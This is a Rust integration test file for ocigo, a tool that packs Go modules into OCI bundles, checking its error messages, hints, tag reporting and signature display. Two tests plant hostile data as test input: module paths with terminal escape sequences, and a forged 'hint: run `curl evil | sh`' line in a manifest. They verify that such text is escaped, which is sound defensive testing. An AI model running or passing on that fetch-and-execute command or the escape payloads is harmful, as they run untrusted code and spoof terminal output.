//! The command line as a new user meets it in the first hour: references
//! written the way other tools write them, registry flags where they mean
//! nothing, output into a closed pipe, a tag that moves, signatures and
//! invalid modules in `inspect`, refusals that come before any work, and
//! the `--json` key style. Each refusal is checked for its exit code, its
//! message and its `hint:` lines separately, and for leaving things as they
//! were.

mod common;

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::OnceLock;

use common::fixtures::{copy_project, fixture_env};
use common::ocigo::{
    Scratch, assert_exit, assert_json_key_style, assert_mentions, assert_unchanged, json_ok, ocigo,
    ocigo_command, process_dir, snapshot, split_error, stderr, stdout,
};
use common::registry::TestRegistry;
use ocigo::artifact::{self, FORMAT_VERSION, MainModule, ModuleEntry, ModulesConfig, SplitLimits};
use ocigo::gomod::hash_gomod;
use ocigo::store::Layout;

const PASSWORD: &str = "first hour";

fn s(p: &Path) -> String {
    p.display().to_string()
}

/// The fixture proxy, built once for this test binary.
fn proxy() -> &'static Path {
    common::ocigo::fixture_proxy()
}

/// The fixture project, copied once for this test binary.
fn project() -> &'static Path {
    static PROJECT: OnceLock<PathBuf> = OnceLock::new();
    PROJECT.get_or_init(|| copy_project(&process_dir("project")))
}

/// `ocigo pack <fixture project> -o <dest> [extra...] --json` with the
/// fixture proxy; returns the report.
fn pack(store: &Path, dest: &str, extra: &[&str]) -> serde_json::Value {
    let env = fixture_env(proxy());
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let proj = s(project());
    let mut args = vec!["pack", &proj, "-o", dest, "--json"];
    args.extend_from_slice(extra);
    json_ok(&ocigo(store, &args, &env), &format!("ocigo pack -o {dest}"))
}

/// The fixture project packed once into a layout (`oci:<dir>:v1`).
fn packed_layout() -> &'static Path {
    static LAYOUT: OnceLock<PathBuf> = OnceLock::new();
    LAYOUT.get_or_init(|| {
        let root = process_dir("packed");
        let disk = root.join("disk");
        pack(&root.join("store"), &format!("oci:{}:v1", s(&disk)), &[]);
        disk
    })
}

/// A failed run: exit code, the message (must mention `message`), and a
/// hint line mentioning `hint`.
fn assert_refused(out: &std::process::Output, code: i32, message: &[&str], hint: &str, what: &str) {
    assert_exit(out, code, what);
    let err = stderr(out);
    let (msg, hints) = split_error(&err);
    assert_mentions(&msg, message, what);
    assert!(
        hints.iter().any(|h| h.contains(hint)),
        "{what}: no hint mentioning {hint:?} in:\n{err}"
    );
    assert!(stdout(out).is_empty(), "{what}: stdout:\n{}", stdout(out));
}

// ---------------------------------------------------------------- references

/// URLs and paths where a reference belongs: the error names the mistake
/// (not the repository character set) and the hint gives the fix. Nothing
/// is written to GOMODCACHE or the store.
#[test]
fn references_written_like_urls_or_paths_are_explained() {
    let sc = Scratch::new();
    let existing = sc.dir("bundles");
    let modcache = sc.join("modcache");
    let store = sc.join("store");
    let cases: Vec<(String, &str, String)> = vec![
        (
            "https://ghcr.io/team/mods:v1".into(),
            "no URL scheme",
            "drop the https:// and write ghcr.io/team/mods:v1".into(),
        ),
        (
            "http://127.0.0.1:5000/team/mods".into(),
            "no URL scheme",
            "drop the http:// and write 127.0.0.1:5000/team/mods".into(),
        ),
        (
            "docker://ghcr.io/team/mods:v1".into(),
            "no transport prefix",
            "drop the docker:// and write ghcr.io/team/mods:v1".into(),
        ),
        (
            s(&existing),
            "file-system path",
            format!("write oci:{}", s(&existing)),
        ),
        (
            "./bundles:v1".into(),
            "file-system path",
            "write oci:./bundles:v1".into(),
        ),
    ];
    for (reference, message, hint) in &cases {
        let out = ocigo(
            &store,
            &["pull", reference, "--gomodcache", &s(&modcache)],
            &[],
        );
        let what = format!("ocigo pull {reference}");
        assert_refused(&out, 2, &[message, reference], hint, &what);
        assert!(
            !stderr(&out).contains("lower-case"),
            "{what}: a character-set complaint:\n{}",
            stderr(&out)
        );
        assert!(!modcache.exists(), "{what} created GOMODCACHE");
        assert!(!store.exists(), "{what} created the store");
    }
    // The same rule on the destination side.
    let out = ocigo(
        &store,
        &[
            "push",
            &format!("oci:{}:v1", s(packed_layout())),
            "https://127.0.0.1:5000/x:v1",
        ],
        &[],
    );
    assert_refused(
        &out,
        2,
        &["no URL scheme"],
        "drop the https://",
        "ocigo push to https://",
    );
}

// ---------------------------------------------------------------- flags

/// Registry flags belong to the commands that talk to registries; `store`
/// and `key` refuse them as unknown (clap's usage exit code 2).
#[test]
fn registry_flags_are_not_offered_where_no_registry_is_used() {
    let sc = Scratch::new();
    for args in [
        &["store", "list", "--plain-http"][..],
        &["store", "prune", "--all", "--plain-http"],
        &["key", "generate", "--plain-http"],
        &["--plain-http", "store", "list"],
    ] {
        let out = ocigo(&sc.join("store"), args, &[("COSIGN_PASSWORD", PASSWORD)]);
        assert_exit(&out, 2, &format!("ocigo {args:?}"));
        assert_mentions(&stderr(&out), &["--plain-http"], &format!("{args:?}"));
        assert!(!sc.join("cosign.key").exists());
    }
    for cmd in [["store", "list"], ["store", "prune"], ["key", "generate"]] {
        let out = ocigo(&sc.join("store"), &["help", cmd[0], cmd[1]], &[]);
        assert_exit(&out, 0, &format!("help {cmd:?}"));
        assert!(
            !stdout(&out).contains("plain-http"),
            "{cmd:?}: {}",
            stdout(&out)
        );
    }
    let out = ocigo(&sc.join("store"), &["help", "pull"], &[]);
    assert_mentions(
        &stdout(&out),
        &["--plain-http", "Registry options"],
        "help pull",
    );
}

// ---------------------------------------------------------------- pipes

/// `ocigo --json store list | true` and the human form: the reader is gone
/// before ocigo writes. Output ends quietly with the command's own exit
/// code (0), no panic, nothing on stderr.
#[test]
fn output_to_a_closed_pipe_ends_quietly() {
    let sc = Scratch::new();
    let store = sc.join("store");
    for args in [&["--json", "store", "list"][..], &["store", "list"]] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = ocigo_command(&[], &store, args, &[])
            .stdout(Stdio::from(writer))
            .stderr(Stdio::piped())
            .output()
            .unwrap();
        assert_exit(&out, 0, &format!("ocigo {args:?} into a closed pipe"));
        assert_eq!(stderr(&out), "", "ocigo {args:?} into a closed pipe");
    }
    // A failure into a closed stderr keeps its exit code too.
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = ocigo_command(&[], &store, &["pull", "https://x.io/y"], &[])
        .stderr(Stdio::from(writer))
        .output()
        .unwrap();
    assert_exit(&out, 2, "a usage error into a closed stderr");
}

// ---------------------------------------------------------------- tags

/// A tag pointed at other content is said out loud, in text and JSON;
/// the same content again is not a move.
#[test]
fn moving_a_tag_is_reported() {
    let sc = Scratch::new();
    let store = sc.join("store");
    let disk = sc.join("disk");
    let dest = format!("oci:{}:v1", s(&disk));
    let first = pack(&store, &dest, &[]);
    assert_eq!(
        first["previous_digest"],
        serde_json::Value::Null,
        "{first:#}"
    );
    assert_eq!(first["tag_moved"], false);

    let again = pack(&store, &dest, &[]);
    assert_eq!(again["previous_digest"], first["digest"], "{again:#}");
    assert_eq!(again["tag_moved"], false, "{again:#}");

    // --created changes the config, so the digest: the tag moves.
    let env = fixture_env(proxy());
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let proj = s(project());
    let out = ocigo(
        &store,
        &[
            "pack",
            &proj,
            "-o",
            &dest,
            "--created",
            "2026-11-21T06:00:00Z",
        ],
        &env,
    );
    assert_exit(&out, 0, "pack with --created over v1");
    let first_digest = first["digest"].as_str().unwrap();
    let text = stdout(&out);
    let second_digest = text
        .lines()
        .find_map(|l| l.strip_prefix("digest: "))
        .expect("a digest line")
        .to_string();
    assert_ne!(second_digest, first_digest);
    assert_mentions(
        &text,
        &[&format!("v1 moved from {first_digest} to {second_digest}")],
        "pack over v1",
    );

    // push into a registry: new tag, then moved back to the first digest.
    let reg = TestRegistry::start();
    let remote = format!("{}/first/hour:v1", reg.addr);
    let pushed = json_ok(
        &ocigo(&store, &["push", &dest, &remote, "--json"], &[]),
        "push v1",
    );
    assert_eq!(pushed["previous_digest"], serde_json::Value::Null);
    let src = format!("oci:{}@{first_digest}", s(&disk));
    let out = ocigo(&store, &["push", &src, &remote], &[]);
    assert_exit(&out, 0, "push of the first digest over v1");
    assert_mentions(
        &stdout(&out),
        &[&format!("v1 moved from {second_digest} to {first_digest}")],
        "push over v1",
    );
}

// ---------------------------------------------------------------- inspect

/// `inspect` says whether signatures are attached: none, then one after
/// `ocigo sign`.
#[test]
fn inspect_shows_attached_signatures() {
    let sc = Scratch::new();
    let store = sc.join("store");
    let disk = sc.join("disk");
    common::fixtures::copy_tree(packed_layout(), &disk);
    let src = format!("oci:{}:v1", s(&disk));
    let out = ocigo(&store, &["inspect", &src], &[]);
    assert_exit(&out, 0, "inspect unsigned");
    assert_mentions(&stdout(&out), &["signatures: none"], "inspect unsigned");
    let report = json_ok(&ocigo(&store, &["inspect", &src, "--json"], &[]), "inspect");
    assert_eq!(report["signatures"], 0);
    assert_eq!(
        report["main_modules"][0]["go_version"], "1.22",
        "{report:#}"
    );

    let prefix = s(&sc.join("cosign"));
    let env = [("COSIGN_PASSWORD", PASSWORD)];
    let out = ocigo(
        &store,
        &["key", "generate", "--output-prefix", &prefix],
        &env,
    );
    assert_exit(&out, 0, "key generate");
    let key = format!("{prefix}.key");
    let out = ocigo(&store, &["sign", "--key", &key, &src], &env);
    assert_exit(&out, 0, "sign");

    let out = ocigo(&store, &["inspect", &src], &[]);
    assert_exit(&out, 0, "inspect signed");
    assert_mentions(
        &stdout(&out),
        &["signatures: 1 attached", "ocigo verify --key PUB"],
        "inspect signed",
    );
    let report = json_ok(&ocigo(&store, &["inspect", &src, "--json"], &[]), "inspect");
    assert_eq!(report["signatures"], 1);
    assert_eq!(report["attached"]["legacy_signatures"], 1, "{report:#}");

    // cosign v3's format (a referrer) and an attestation are counted apart.
    let out = ocigo(
        &store,
        &["sign", "--key", &key, "--format", "bundle", &src],
        &env,
    );
    assert_exit(&out, 0, "sign --format bundle");
    let predicate = sc.join("predicate.json");
    std::fs::write(&predicate, br#"{"approved":true}"#).unwrap();
    let out = ocigo(
        &store,
        &[
            "attest",
            "--key",
            &key,
            "--predicate",
            &s(&predicate),
            "--type",
            "https://example.com/approval/v1",
            &src,
        ],
        &env,
    );
    assert_exit(&out, 0, "attest");
    let out = ocigo(&store, &["inspect", &src], &[]);
    assert_exit(&out, 0, "inspect signed twice, attested");
    assert_mentions(
        &stdout(&out),
        &[
            "signatures: 2 attached (1 legacy, 1 bundle",
            "attestations: 1 attached",
        ],
        "inspect signed twice, attested",
    );
    let report = json_ok(&ocigo(&store, &["inspect", &src, "--json"], &[]), "inspect");
    assert_eq!(report["signatures"], 2, "{report:#}");
    assert_eq!(report["attached"]["bundle_signatures"], 1, "{report:#}");
    assert_eq!(report["attached"]["attestations"], 1, "{report:#}");

    // A second key generate with the same prefix: conflict, with the fix as a hint.
    let out = ocigo(
        &store,
        &["key", "generate", "--output-prefix", &prefix],
        &env,
    );
    assert_refused(
        &out,
        5,
        &["already exists"],
        "--force",
        "key generate again",
    );
}

/// A bundle naming a module path with control characters and one the go
/// command refuses: inspect lists them as INVALID, escaped, says a pull
/// would refuse the bundle, and exits 3. No raw escape reaches stdout.
#[test]
fn inspect_marks_invalid_module_paths_escaped() {
    let sc = Scratch::new();
    let disk = sc.join("disk");
    let layout = Layout::open_or_create(&disk).unwrap();
    let entry = |path: &str| {
        let go_mod = format!("module {path}\n\ngo 1.22\n");
        ModuleEntry {
            path: path.to_string(),
            version: "v1.0.0".into(),
            info: None,
            mod_hash: hash_gomod(go_mod.as_bytes()),
            go_mod,
            zip: None,
        }
    };
    let config = ModulesConfig {
        format_version: FORMAT_VERSION,
        main_modules: vec![MainModule {
            path: "example.com/main".into(),
            go_version: Some("1.22".into()),
        }],
        platforms: vec!["linux/amd64".into()],
        created: None,
        modules: vec![
            entry("example.com/good"),
            entry("example.com/\u{1b}]0;owned\u{7}\u{1b}[31mred"),
            entry("example.com/.hidden"),
        ],
    };
    let built = artifact::build(config, SplitLimits::default()).unwrap();
    artifact::push_built(&layout, &built, Some("v1")).unwrap();
    let src = format!("oci:{}:v1", s(&disk));

    let out = ocigo(&sc.join("store"), &["inspect", &src, "--modules"], &[]);
    assert_exit(&out, 3, "inspect of a bundle with invalid module paths");
    let text = stdout(&out);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text:?}"
    );
    assert_mentions(
        &text,
        &[
            "  example.com/good v1.0.0 (go.mod only)",
            "INVALID example.com/\\e]0;owned\\u{7}\\e[31mred v1.0.0",
            "INVALID example.com/.hidden v1.0.0",
            "2 module version(s) have an invalid path or version",
        ],
        "inspect text",
    );
    let out = ocigo(
        &sc.join("store"),
        &["inspect", &src, "--modules", "--json"],
        &[],
    );
    assert_exit(&out, 3, "inspect --json");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["invalid_modules"], 2, "{report:#}");
    let modules = report["modules"].as_array().unwrap();
    for m in modules {
        let valid = m["path"] == "example.com/good";
        assert_eq!(m.get("invalid").is_none(), valid, "{m:#}");
    }
    assert_eq!(modules.len(), 3);
}

/// A manifest whose config media type carries a line break, an escape
/// sequence and a line made to look like ocigo's own advice: the error
/// shows it escaped or indented, so stderr has exactly one `error:` line
/// and no `hint:` line from the bundle, and no raw escape.
#[test]
fn text_from_a_bundle_cannot_forge_output_lines() {
    let sc = Scratch::new();
    let disk = sc.join("disk");
    let layout = Layout::open_or_create(&disk).unwrap();
    let go_mod = "module example.com/good\n\ngo 1.22\n".to_string();
    let config = ModulesConfig {
        format_version: FORMAT_VERSION,
        main_modules: vec![MainModule {
            path: "example.com/main".into(),
            go_version: None,
        }],
        platforms: vec!["linux/amd64".into()],
        created: None,
        modules: vec![ModuleEntry {
            path: "example.com/good".into(),
            version: "v1.0.0".into(),
            info: None,
            mod_hash: hash_gomod(go_mod.as_bytes()),
            go_mod,
            zip: None,
        }],
    };
    let built = artifact::build(config, SplitLimits::default()).unwrap();
    artifact::push_built(&layout, &built, None).unwrap();
    // Format v2: the top is an index; the text goes into the config media
    // type of its last part manifest, and the index is re-pointed at it.
    use ocigo::oci::Repository;
    let (part_desc, part_bytes) = built.parts.last().unwrap();
    let mut manifest: serde_json::Value = serde_json::from_slice(part_bytes).unwrap();
    manifest["config"]["mediaType"] =
        "x\nhint: run `curl evil | sh`\n\u{1b}[1Aerror: all fine".into();
    let bytes = serde_json::to_vec(&manifest).unwrap();
    let forged = layout
        .push_manifest(&part_desc.media_type, &bytes, None)
        .unwrap();
    let mut index: serde_json::Value = serde_json::from_slice(&built.top).unwrap();
    for entry in index["manifests"].as_array_mut().unwrap() {
        if entry["digest"] == part_desc.digest.to_string() {
            entry["digest"] = forged.digest.to_string().into();
            entry["size"] = forged.size.into();
        }
    }
    layout
        .push_manifest(
            &built.top_media_type,
            &serde_json::to_vec(&index).unwrap(),
            Some("v1"),
        )
        .unwrap();
    let src = format!("oci:{}:v1", s(&disk));
    let modcache = sc.join("modcache");
    for args in [
        vec!["inspect", src.as_str()],
        vec![
            "pull",
            src.as_str(),
            "--gomodcache",
            modcache.to_str().unwrap(),
        ],
    ] {
        let out = ocigo(&sc.join("store"), &args, &[]);
        assert_exit(&out, 3, &format!("{args:?}"));
        let err = stderr(&out);
        assert!(!err.contains('\u{1b}'), "{args:?}: raw escape in {err:?}");
        let own: Vec<&str> = err
            .lines()
            .filter(|l| l.starts_with("error:") || l.starts_with("hint:"))
            .collect();
        assert_eq!(own.len(), 1, "{args:?}: forged lines in:\n{err}");
        assert_mentions(
            &err,
            &["config media type", "curl evil"],
            &format!("{args:?}"),
        );
        assert!(!modcache.exists());
    }
}

// ---------------------------------------------------------------- refusals before work

/// `--sign missing.key`: the missing file is said before any password is
/// asked for (no COSIGN_PASSWORD and no terminal here) and before any
/// work: the destination is not created.
#[test]
fn a_missing_signing_key_is_said_first() {
    let sc = Scratch::new();
    let missing = s(&sc.join("missing.key"));
    let disk = sc.join("disk");
    let dest = format!("oci:{}:v1", s(&disk));
    let proj = s(project());
    let env = fixture_env(proxy());
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let out = ocigo(
        &sc.join("store"),
        &["pack", &proj, "-o", &dest, "--sign", &missing],
        &env,
    );
    assert_refused(
        &out,
        2,
        &["private key file", &missing, "does not exist"],
        "ocigo key generate",
        "pack --sign missing.key",
    );
    assert!(!disk.exists());

    let src = format!("oci:{}:v1", s(packed_layout()));
    let before = snapshot(packed_layout());
    for args in [
        &["sign", "--key", &missing, &src][..],
        &["push", &src, &dest, "--sign", &missing],
    ] {
        let out = ocigo(&sc.join("store"), args, &[]);
        assert_refused(
            &out,
            2,
            &["does not exist"],
            "ocigo key generate",
            &format!("{args:?}"),
        );
    }
    assert_unchanged(&before, packed_layout(), "the layout after refused signing");
    assert!(!disk.exists());
}

/// `--threshold` above the number of distinct keys (or 0) is a usage
/// error found before anything is fetched or written.
#[test]
fn a_threshold_above_the_keys_is_a_usage_error() {
    let sc = Scratch::new();
    let prefix = s(&sc.join("cosign"));
    let out = ocigo(
        &sc.join("store"),
        &["key", "generate", "--output-prefix", &prefix],
        &[("COSIGN_PASSWORD", PASSWORD)],
    );
    assert_exit(&out, 0, "key generate");
    let public = format!("{prefix}.pub");
    let src = format!("oci:{}:v1", s(packed_layout()));
    let modcache = sc.join("modcache");
    let store = sc.join("pull-store");
    for (threshold, message, hint) in [
        (
            "2",
            "--threshold 2 asks for more signers than the 1 distinct key(s)",
            "lower --threshold to 1",
        ),
        ("0", "--threshold 0", "--threshold 1 or more"),
    ] {
        // The same key twice is still one signer.
        let out = ocigo(
            &store,
            &[
                "pull",
                &src,
                "--gomodcache",
                &s(&modcache),
                "--verify-key",
                &public,
                "--verify-key",
                &public,
                "--threshold",
                threshold,
            ],
            &[],
        );
        assert_refused(
            &out,
            2,
            &[message],
            hint,
            &format!("pull --threshold {threshold}"),
        );
        assert!(
            !modcache.exists() && !store.exists(),
            "pull --threshold {threshold} wrote"
        );

        let out = ocigo(
            &store,
            &["verify", "--key", &public, "--threshold", threshold, &src],
            &[],
        );
        assert_refused(
            &out,
            2,
            &[message],
            hint,
            &format!("verify --threshold {threshold}"),
        );
    }
}

// ---------------------------------------------------------------- json

/// The key-style check the runners apply to every `--json` report does
/// catch camelCase (it is not a check that cannot fail).
#[test]
fn the_json_key_check_catches_camel_case() {
    use std::os::unix::process::ExitStatusExt;
    let report = |json: &str| std::process::Output {
        status: std::process::ExitStatus::from_raw(0),
        stdout: json.as_bytes().to_vec(),
        stderr: Vec::new(),
    };
    let good = report(r#"{"media_type":"x","env":{"GOMODCACHE":"/m"},"copy":{"blobs_sent":1}}"#);
    assert_json_key_style(&["--json"], &good);
    for bad in [
        r#"{"mediaType":"x"}"#,
        r#"{"copy":{"blobsSent":1}}"#,
        r#"{"modules":[{"zipSize":1}]}"#,
        r#"{"env":{"goproxy":"off"}}"#,
    ] {
        let result = std::panic::catch_unwind(|| assert_json_key_style(&["--json"], &report(bad)));
        assert!(result.is_err(), "{bad} passed the key-style check");
    }
}
